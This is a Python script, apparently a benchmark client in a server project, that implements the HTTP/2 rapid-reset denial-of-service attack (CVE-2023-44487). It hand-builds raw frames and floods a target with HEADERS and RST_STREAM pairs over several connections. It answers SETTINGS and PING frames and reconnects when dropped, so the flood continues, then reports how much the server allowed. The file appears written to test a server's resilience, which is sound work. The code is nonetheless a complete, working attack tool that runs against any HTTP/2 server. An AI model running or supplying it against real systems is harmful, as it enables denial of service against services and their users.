"""An HTTP/2 rapid-reset attacker (CVE-2023-44487): HEADERS then RST_STREAM, stream after
stream, on several connections, with no token. Raw frames over plain TCP, no HTTP/2 library:
the HEADERS block is encoded once (HPACK literals without indexing never change the
encoder's state), so the attacker spends its CPU sending, not encoding.

    python -m bench.rapid_reset_client HOST PORT CONNECTIONS SECONDS   (prints a JSON report)

It answers the server's SETTINGS and PINGs as a client must (else the server drops it for
that, not for the attack), and reconnects whenever the server closes a connection: what it
reports is how much the server let it do.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import struct
import sys
import time
from dataclasses import asdict, dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
_END_HEADERS, _ACK = 0x4, 0x1
_CANCEL = 0x8
# Streams sent per write: enough to keep the socket full, few enough to read in between.
BATCH = 100
_METHOD = "/tailhub.v1.TailhubService/GetJob"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream & 0x7FFFFFFF)
        + payload
    )


def _literal(name: str, value: str) -> bytes:
    """An HPACK literal header field without indexing, new name, no Huffman (both < 127 B)."""
    return b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def header_block(authority: str) -> bytes:
    return b"".join(
        _literal(name, value)
        for name, value in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", _METHOD),
            (":authority", authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        )
    )


@dataclass
class Figures:
    streams: int = 0  # HEADERS + RST_STREAM pairs written
    connections: int = 0  # connections opened (the first ones and every reconnect)
    refused_connects: int = 0  # connects that failed
    goaways: int = 0
    server_resets: int = 0  # RST_STREAM frames from the server
    closed_by_server: int = 0


async def _read_frames(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, figures: Figures
) -> None:
    """Answers SETTINGS and PING, counts what the server says; returns when it closes."""
    while True:
        try:
            head = await reader.readexactly(9)
            length = int.from_bytes(head[:3], "big")
            payload = await reader.readexactly(length)
        except (asyncio.IncompleteReadError, ConnectionError):
            figures.closed_by_server += 1
            return
        kind, flags = head[3], head[4]
        if kind == _SETTINGS and not flags & _ACK:
            writer.write(frame(_SETTINGS, _ACK, 0))
        elif kind == _PING and not flags & _ACK:
            writer.write(frame(_PING, _ACK, 0, payload))
        elif kind == _GOAWAY:
            figures.goaways += 1
        elif kind == _RST_STREAM:
            figures.server_resets += 1


async def _connection(host: str, port: int, until: float, figures: Figures) -> None:
    block = header_block(f"{host}:{port}")
    cancel = struct.pack(">I", _CANCEL)
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            figures.refused_connects += 1
            await asyncio.sleep(0.05)  # a refused connect: try again, not in a hot loop
            continue
        figures.connections += 1
        writer.write(PREFACE + frame(_SETTINGS, 0, 0))
        reading = asyncio.ensure_future(_read_frames(reader, writer, figures))
        stream = 1
        try:
            while time.monotonic() < until and not reading.done() and stream < 2**31 - 2 * BATCH:
                batch = []
                for _ in range(BATCH):
                    batch.append(frame(_HEADERS, _END_HEADERS, stream, block))
                    batch.append(frame(_RST_STREAM, 0, stream, cancel))
                    stream += 2
                writer.write(b"".join(batch))
                await writer.drain()
                figures.streams += BATCH
        except ConnectionError:
            pass
        finally:
            reading.cancel()
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()


async def attack(host: str, port: int, connections: int, seconds: float) -> Figures:
    figures = Figures()
    until = time.monotonic() + seconds
    await asyncio.gather(*(_connection(host, port, until, figures) for _ in range(connections)))
    return figures


if __name__ == "__main__":
    host, port, connections, seconds = sys.argv[1:5]
    started = time.monotonic()
    result = asdict(asyncio.run(attack(host, int(port), int(connections), float(seconds))))
    result["elapsed_s"] = time.monotonic() - started
    print(json.dumps(result))
